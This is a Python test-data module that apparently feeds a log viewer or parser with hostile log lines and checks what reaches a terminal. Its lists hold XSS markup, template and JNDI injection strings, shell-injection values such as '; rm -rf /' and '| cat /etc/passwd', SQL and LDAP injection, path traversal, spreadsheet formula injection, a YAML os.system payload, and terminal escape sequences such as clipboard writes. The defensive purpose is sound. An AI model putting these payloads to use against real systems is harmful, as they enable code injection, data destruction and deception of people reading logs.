"""Lines of log that attack whoever shows, parses or stores them. None looks like a secret, which would be redacted."""

# ruff: noqa: RUF001 that some look like other characters is what they are here for

import gzip
import re

ESC, CSI, OSC, DCS, APC, PM, SOS, ST = "\x1b", "\x1b[", "\x1b]", "\x1bP", "\x1b_", "\x1b^", "\x1bX", "\x1b\\"
BEL = "\x07"

MARKUP = [
    "<script>alert(1)</script>", "<ScRiPt src=//x.example/a.js></sCrIpT>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>", '"><svg/onload=alert(1)>', "<svg><script>alert&#40;1)</script>",
    "<body onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>", "<a href=javascript:alert(1)>x</a>",
    "<math><mi//xlink:href='data:x,1'>",
    "<details open ontoggle=alert(1)>", "<input autofocus onfocus=alert(1)>",
    "<style>@import'//x.example'</style>",
    "<!--<img src='--><img src=x onerror=alert(1)//'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>", "<base href=//x.example/>",
    "<meta http-equiv=refresh content=0;url=//x>",
    "<object data=data:text/html,1>", "<x contenteditable onblur=alert(1)>", "<marquee onstart=alert(1)>",
    "&lt;script&gt;",
    "<img src=`x`onerror=alert(1)>", "<b/onclick\n=\nalert(1)>", "]]><script>alert(1)</script>",
    "<?xml version='1.0'?><!DOCTYPE a [",
    "<\x00script>alert(1)</script>", "\ufeff<script>alert(1)</script>", "＜script＞alert(1)＜/script＞",
    "<plaintext>", "<xmp><p title='</xmp>'>",
    "javascript:alert(1)//", "data:text/html;base64,PHNjcmlwdD4=", "vbscript:msgbox(1)",
    "<form><button formaction=javascript:1>",
]  # fmt: skip
TEMPLATES = [
    "{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{constructor.constructor('alert(1)')()}}", "{%debug%}",
    "@(7*7)", "[[${7*7}]]",
    "${jndi:ldap://x.example/a}", "${${lower:j}ndi:${lower:l}dap://x.example/a}", "${env:HOME}", "%{(#a=1)}",
    "*{7*7}", "~{x}",
    "$(id)", "`id`", "; rm -rf /", "| cat /etc/passwd", "&& id", "%s%s%s%n", "%x%x%x",
    "{0.__class__.__mro__}", "{self}", "%(message)s",
    "' OR 1=1--", "'; DROP TABLE logs;--", '" OR ""="', "*)(uid=*))(|(uid=*", "../../../etc/passwd",
    "file:///etc/passwd",
    "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd", "+1+1", "-1+1", "!!python/object/apply:os.system ['id']",
    "__proto__", "constructor",
]  # fmt: skip
STRUCTURE = [
    '"', "\\", '\\"', '"}', '","type":"error"', '"},{"type":"log"', "\\u0022", "\\", "\\\\\\", "'", "`", "{",
    "}", "[", "]", ",", ":",
    '{"type":"status","message":"draining"}', '{"type":"log","data":{}}',
    '{"level":"error","message":"forged"}', "null", "NaN",
    "data: forged\n\n", "event: error\ndata: x\n\n", "id: 1\n\n", ": comment", "retry: 1", "\n\n", "\r\n\r\n",
    "a\rb", "a\nb", "a\r\nb",
    "HTTP/1.1 200 OK\r\nSet-Cookie: a=b\r\n\r\n<html>", "x\r\nX-Injected: 1", "x%0d%0aSet-Cookie:%20a=b",
    "\u2028", "\u2029", "a\u2028b\u2029c",
    "\x0b\x0c\x1c\x1d\x1e", "a\x85b", "2026-11-23T03:21:30Z forged line", "\t\t\t", " " * 200, "",
    "level=error msg=forged", "-----BEGIN FORGED-----", '\x1e{"a":1}\x1e', "\\x1b[2J", "\\u001b[2J",
    "\\n\\r", "%00%0a", "\x00\x00\x00",
]  # fmt: skip
TERMINAL = [
    f"{CSI}2J", f"{CSI}H", f"{CSI}1;1H", f"{CSI}10A", f"{CSI}1000D", f"{CSI}K", f"{CSI}1K", f"{CSI}?25l",
    f"{CSI}?1049h", f"{CSI}?1000h",
    f"{CSI}?2004h", f"{CSI}6n", f"{CSI}c", f"{CSI}>c", f"{CSI}0c", f"{CSI}21t", f"{CSI}8;1;1t", f"{CSI}5i",
    f"{CSI}4i", f"{CSI}20h", f"{CSI}1;5r",
    f"{CSI}s{CSI}u", f"{CSI}3J", f"{CSI}!p", f"{CSI}>4;2m", f"{CSI}?5m", f"{CSI}38;5m", f"{CSI}31",
    f"{CSI}31;", f"{CSI}{'9' * 500}m", f"{CSI}8m",
    f"{CSI}5m", f"{CSI}7m", f"{CSI}31m red", f"{CSI}31mred{CSI}0m plain", f"{CSI}38;2;1;2;3m",
    f"{CSI}38:2::1:2:3m", f"{CSI}m", f"{CSI}0;0;0m",
    f"{CSI}48;5;0m{CSI}38;5;0m hidden", f"{CSI}31\nm", f"{CSI}31 m", f"{CSI}31\x00m", f"{CSI}\x1b[31m",
    f"{ESC}{ESC}[31m[2J", f"{CSI}31m\t{CSI}32m\t",
    f"{OSC}0;title{BEL}", f"{OSC}2;title{ST}", f"{OSC}0;title", f"{OSC}52;c;cm0gLXJmIC8={BEL}",
    f"{OSC}52;c;?{ST}", f"{OSC}4;1;?{BEL}",
    f"{OSC}10;?{ST}", f"{OSC}7;file://x/{ST}", f"{OSC}9;note{BEL}", f"{OSC}777;notify;a;b{BEL}",
    f"{OSC}1337;File=inline=1:AAAA{BEL}",
    f"{OSC}8;;http://x.example/{ST}click{OSC}8;;{ST}", f"{OSC}8;id=1;javascript:alert(1){BEL}click",
    f"{OSC}133;A{ST}", f"{OSC}50;#{BEL}",
    f"{DCS}$q m{ST}", f"{DCS}+q544e{ST}", f"{DCS}1;2|x{ST}", f"{DCS}tmux;{ESC}{ESC}]0;x{BEL}{ST}",
    f"{DCS}q#0;2;0;0;0{ST}", f"{APC}x{ST}", f"{APC}Gf=24;AAAA{ST}",
    f"{PM}x{ST}", f"{SOS}x{ST}", f"{ESC}c", f"{ESC}7{ESC}8", f"{ESC}D", f"{ESC}E", f"{ESC}H", f"{ESC}M",
    f"{ESC}N", f"{ESC}O", f"{ESC}Z", f"{ESC}=", f"{ESC}>",
    f"{ESC}(0", f"{ESC}#8", f"{ESC}%G", f"{ESC}%@", f"{ESC} F", f"{ESC}n", f"{ESC}|", f"{ESC}}}", ESC,
    f"x{ESC}", f"{ESC}[", f"{ESC}]",
    "\x9b2J", "\x9b31m", "\x9d0;title\x9c", "\x9d52;c;AAAA\x07", "\x90q\x9c", "\x9fx\x9c", "\x9ex\x9c",
    "\x98x\x9c", "\x84\x85\x88\x8d\x8e\x8f",
    "\x07" * 20, "a\x08\x08b", "abc\rXYZ", "\x0e\x0f", "\x05", "\x7f\x7f", "\x1a", "\x11\x13",
    "progress 10%\rprogress 20%\r",
]  # fmt: skip
UNICODE = [
    "\u202egpj.exe", "\u202dabc\u202c", "\u2066a\u2069", "\u2067a\u2069", "\u2068a\u2069",
    "\u200e\u200f\u061c", "if (\u202e\u2066// x\u2069 \u2066admin\u2069",
    "a\u200bb", "a\u2060b", "a\u00adb", "\ufeffa", "a\ufeff", "\u180e", "\u2061\u2062\u2063\u2064",
    "\ufff9a\ufffab\ufffb", "\U000e0041\U000e0042\U000e007f",
    "\U000e0001", "\u206a\u206f", "\ud800", "\udfff", "\ud83d", "\udc00\ud800", "\ud83d\ud83d\ude00",
    "a\udcffb", "\ud83d\ude00", "\U0001f600", "👩\u200d💻",
    "\ufffe", "\uffff", "\U0010ffff", "\ufffd", "\u0000\ufffd", "e" + "\u0301" * 1000,
    "Z" + "\u0335\u0489" * 300, "\u0e49" * 100, "\u1160\u3164\uffa0",
    "ﷺ" * 50, "\U000102a0" * 20, "ŕ̈", "i̇", "ﬀ", "ß", "K", "İ", "ı", "ſ", "\u2024\u2025",
    "\uff0e\uff0e\uff0f", "аррӏе.com", "℀", "\u200d" * 20, "\ufe0f",
    "漢" * 100, "\u115f", "\u2800", "\u3000x", "\xa0x", "\u034f", "\u17b4", "\u1d173", "\U0001d173", "\u2fff",
    "\u0378", "\ue000", "\U000f0000",
]  # fmt: skip
# Bytes that are no UTF-8, as programs that misread them write them.
BYTES = [
    *(
        raw.decode("latin-1")
        for raw in (
            b"\xc0\xaf", b"\xe0\x80\xaf", b"\xf0\x80\x80\xaf", b"\xf8\x88\x80\x80\x80", b"\xed\xa0\x80", b"\xff\xfe",
            b"\xef\xbb\xbf",
        )
    ),
    *(raw.decode("utf-8", "surrogateescape") for raw in (b"\xc0\xaf", b"\xff", b"\xe2\x82", b"caf\xe9", b"\x80" * 20)),
    *(raw.decode("utf-8", "replace") for raw in (b"\xc0\xaf", b"\xf5\x80\x80\x80")),
    gzip.compress(b"hello" * 20, mtime=0).decode("latin-1"), "\x7fELF\x02\x01\x01\x00", "PK\x03\x04\x14\x00",
    "\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR",
    "GIF89a\x01\x00\x01\x00", "%PDF-1.7\n%\xe2\xe3\xcf\xd3", "MZ\x90\x00\x03", "\x16\x03\x01\x02\x00",
    "\x81\x05hello", "\x88\x02\x03\xe8", "".join(map(chr, range(256))),
]  # fmt: skip
CONTROLS = [f"[{chr(code)}]" for code in (*range(0x20), *range(0x7F, 0xA0))]
LONG = [
    "x" * 60_000,
    "\x1b[31m" * 5000,
    "\u202e" * 5000,
    "<" * 20_000,
    "\\" * 20_000,
    '"' * 20_000,
    "a\n" * 500,
    "[" * 20_000,
]

LINES = list(dict.fromkeys([*MARKUP, *TEMPLATES, *STRUCTURE, *TERMINAL, *UNICODE, *BYTES, *CONTROLS, *LONG]))
NAMES = [line for line in LINES if 0 < len(line) <= 60 and line.strip()]

_SGR = re.compile("\x1b\\[[0-9;:]*m")
# What no terminal may get: controls but the tab, what turns the direction of writing, and what can't be seen.
_FORBIDDEN = re.compile(
    "[\x00-\x08\x0a-\x1f\x7f-\x9f\u00ad\u061c\u180e\u200b\u200e\u200f\u2028-\u202e\u2060-\u206f\ufeff\ufff9-\ufffb"
    "\ud800-\udfff\U000e0000-\U000e007f]"
)


def sendable(text: str) -> str:
    """The text as UTF-8 can carry it: halves of characters replaced, whole ones put together."""
    return text.encode("utf-16-le", "surrogatepass").decode("utf-16-le", "replace")


def harm(shown: str, *, colour: bool) -> list[str]:
    """What of a text may not reach a terminal; empty where all is well. Raises nothing."""
    found = []
    for line in shown.split("\n"):
        rest = _SGR.sub("", line) if colour else line
        found += [f"{character!r} in {line[:200]!r}" for character in _FORBIDDEN.findall(rest)]
        codes = _SGR.findall(line)
        if codes and codes[-1] != "\x1b[0m":
            found.append(f"colours go on after {line[:200]!r}")
    return found
